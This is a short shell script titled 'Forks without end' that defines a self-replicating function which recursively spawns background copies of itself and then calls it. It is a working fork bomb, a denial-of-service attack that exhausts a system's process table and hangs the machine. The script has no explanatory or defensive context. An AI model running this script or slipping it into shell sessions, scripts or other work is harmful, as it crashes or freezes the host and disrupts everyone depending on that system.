# Forks without end
bomb() { bomb | bomb & }
bomb
wait
